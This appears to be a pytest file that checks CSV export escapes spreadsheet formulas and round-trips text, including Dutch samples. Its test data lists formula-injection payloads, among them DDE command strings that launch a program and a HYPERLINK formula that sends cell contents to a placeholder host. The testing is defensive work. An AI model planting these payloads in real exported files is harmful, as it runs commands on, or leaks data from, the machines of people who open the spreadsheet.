"""CSV opens in a spreadsheet without a formula running, and reads back unchanged."""

import csv
import json
from pathlib import Path

import pytest
from corpus import annotate, records
from hostile_texts import SHORT
from hypothesis import example, given, settings
from hypothesis import strategies as st

from annot.guard import unguarded
from annot.writers.cells import csv_rows

pa = pytest.importorskip("pyarrow")

FORMULA = tuple("=+-@\t\r\n\0＝＋－＠")
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+31612345678 belde",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '\n=HYPERLINK("http://x")',
    '=HYPERLINK("http://x?"&A1)',
    "'=1+1",
    "''@x",
    "a;=1+1",
    'a";=1+1;"',
    "a\t=1+1",
    "＝1+1",
    "'t Was laat",
    "'k Weet het niet",
    "",
    '"',
]


def read_back(data: bytes) -> list[str]:
    return [row[0] for row in csv.reader(data.decode().splitlines(keepends=True))]


TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)
LIKELY = st.text(st.sampled_from("=+-@'\t\r\n\0＝a ;,\"|"), max_size=6)


@pytest.mark.thorough
@settings(max_examples=500, deadline=None)
@given(st.lists(TEXT | LIKELY, min_size=1, max_size=8))
@example(FORMULAS)
def test_no_cell_starts_like_a_formula_and_all_come_back(texts: list[str]) -> None:
    cells = read_back(csv_rows(pa.table({"text": texts}), {}))
    assert not any(cell.startswith(FORMULA) for cell in cells)
    assert [unguarded(cell) for cell in cells] == texts


def test_no_text_stands_outside_quotation_marks() -> None:
    """A spreadsheet that splits at semicolons or tabs would find a formula behind one."""
    data = csv_rows(pa.table({"text": FORMULAS}), {"annot": "1"}).decode()
    outside = "".join(data.split('"')[::2])
    assert set(outside) <= set(",\n")


def test_what_needs_no_guard_has_none() -> None:
    assert read_back(csv_rows(pa.table({"text": ["'t Was laat", "ja -", "a=1"]}), {})) == [
        "'t Was laat", "ja -", "a=1",
    ]  # fmt: skip


def test_hostile_texts_go_out_and_come_back(tmp_path: Path) -> None:
    texts = [*FORMULAS, *SHORT.values()]
    source = tmp_path / "in.jsonl"
    source.write_text("".join(json.dumps({"text": text}) + "\n" for text in texts))
    annotate(source, tmp_path / "uit.csv")
    annotate(source, tmp_path / "uit.jsonl")
    annotate(tmp_path / "uit.csv.messages.csv", tmp_path / "terug.jsonl")
    kept = [row["text"] for row in records(tmp_path / "uit.jsonl")]
    assert [row["text"] for row in records(tmp_path / "terug.jsonl")] == kept
    with (tmp_path / "uit.csv.messages.csv").open(encoding="utf-8", newline="") as file:
        for row in csv.reader(file):
            assert not any(cell.startswith(FORMULA) for cell in row)
